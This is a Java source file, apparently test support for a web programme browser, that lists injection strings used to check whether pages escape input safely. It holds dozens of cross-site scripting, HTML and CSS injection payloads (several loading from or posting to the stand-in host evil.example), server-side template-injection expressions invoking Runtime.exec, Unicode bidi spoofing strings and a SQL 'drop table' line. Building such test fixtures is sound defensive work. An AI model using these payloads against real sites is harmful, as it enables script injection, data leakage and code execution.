package org.unodc.cop.examples.programme.browser;

import java.util.List;

/** Texts that would act in a page that is not careful. */
final class Payloads {
  /** What a template would make of {@link #EXPRESSIONS} if it worked them out. */
  static final String WORKED_OUT = "x1337x";

  private static final String EXPRESSIONS =
      "x${7*191}x x*{7*191}x x#{7*191}x x[[${7*191}]]x x[(${7*191})]x x__${7*191}__x x|${7*191}|x"
          + " x~{7*191}x x@{7*191}x x{{7*191}}x x<%= 7*191 %>x";

  /** One of each kind. */
  static final List<String> SAMPLE =
      List.of(
          "</script><script>alert(1)</script>",
          "\"><img src=//evil.example/x onerror=alert(1)>",
          "' onfocus='alert(1)' autofocus='",
          "javascript:alert(1)",
          EXPRESSIONS,
          "</title></style><style>@import '//evil.example/x.css';*{display:none}</style>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
          "\u2067live\u2069 \u2066evil.example\u2069",
          "Very-long-word-" + "abcdefghij".repeat(18));

  /** All of them. */
  static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "<script src=//evil.example/x.js></script>",
          "</p></li></ol></section></main><script>alert(1)</script>",
          "</title></style></textarea></script><script>alert(1)</script>",
          "<ScRiPt\u00A0>alert(1)</sCrIpT >",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "\"><img src=x onerror=alert(1)>",
          "'><img src=x onerror=alert(1)>",
          "`><img src=x onerror=alert(1)>",
          "<img src=//evil.example/pixel.png>",
          "<img srcset=\"//evil.example/x 1x\">",
          "<picture><source srcset=//evil.example/x><img></picture>",
          "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
          "' onfocus='alert(1)' autofocus='",
          " onpointerenter=alert(1) tabindex=1 autofocus onfocus=alert(1) ",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><a xlink:href=javascript:alert(1)><text y=20>go</text></a></svg>",
          "<svg><use href=//evil.example/x.svg#x></use></svg>",
          "<math><mi xlink:href=javascript:alert(1)>go</mi></math>",
          "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml>",
          "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
          "<iframe src=javascript:alert(1)>",
          "<object data=//evil.example/x><embed src=//evil.example/x>",
          "<video src=//evil.example/x onerror=alert(1)><audio src=x onerror=alert(1)>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
          "<base href=//evil.example/>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<link rel=prefetch href=//evil.example/x><link rel=preconnect href=//evil.example>",
          "<style>*{display:none}</style>",
          "<style>@import '//evil.example/x.css';</style>",
          "x;background:url(//evil.example/x);width:expression(alert(1))",
          "}*{background:url(//evil.example/x)}",
          "<div style=\"background:url(//evil.example/x);position:fixed;inset:0\">",
          "<form action=//evil.example/><button autofocus>go</button>",
          "<input autofocus onfocus=alert(1)>",
          "<button formaction=//evil.example/>go</button>",
          "<a href=javascript:alert(1)>go</a>",
          "<a href=\"java\tscript:alert(1)\">go</a>",
          "<a href=//evil.example/ ping=//evil.example/>go</a>",
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)//https://example.org/",
          "data:text/html,<script>alert(1)</script>",
          "vbscript:msgbox(1)",
          "//evil.example/",
          "<details open ontoggle=alert(1)>",
          "<dialog open onclose=alert(1)><marquee onstart=alert(1)>",
          "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;img src=x onerror=alert(1)&#62;",
          "&amp;lt;script&amp;gt;",
          "<!-- --!><script>alert(1)</script>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?xml-stylesheet href=//evil.example/x?>",
          "</script><script>alert(1)</script>",
          "</script><!--<script>",
          "\",\"@id\":\"javascript:alert(1)\",\"x\":\"",
          "\\\";alert(1)//",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          EXPRESSIONS,
          "${T(java.lang.Runtime).getRuntime().exec('true')}",
          "__${T(java.lang.Runtime).getRuntime().exec('true')}__::.x",
          "${@passwords.generate()}",
          "#{${7*191}} [[#{frame.skip}]]",
          "{0} {1,choice,0#x|1#y} '{' %s %n %1$s",
          "{{constructor.constructor('alert(1)')()}}",
          "~{layout :: page(1, 2)}",
          "<th:block th:text=\"${7*191}\"></th:block>",
          "<p th:utext=\"${7*191}\" data-th-text=\"${7*191}\"></p>",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\u2067live\u2069 \u2066evil.example\u2069",
          "\u2069\u2069</bdi><img src=x onerror=alert(1)>\u2066\u2067\u2068\u2069\u2069\u2069",
          "a\u200B\u200B\u200Bb\u2028c\u2029d\u0085e",
          "Z\u0351\u0352\u0353\u0354a\u0351\u0352\u0353\u0354l\u0351\u0352\u0353\u0354",
          "مساء <script>alert(1)</script> الخير",
          "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
          "Very-long-word-" + "abcdefghij".repeat(50),
          "长".repeat(400),
          "'; drop table element; --");

  private Payloads() {}
}
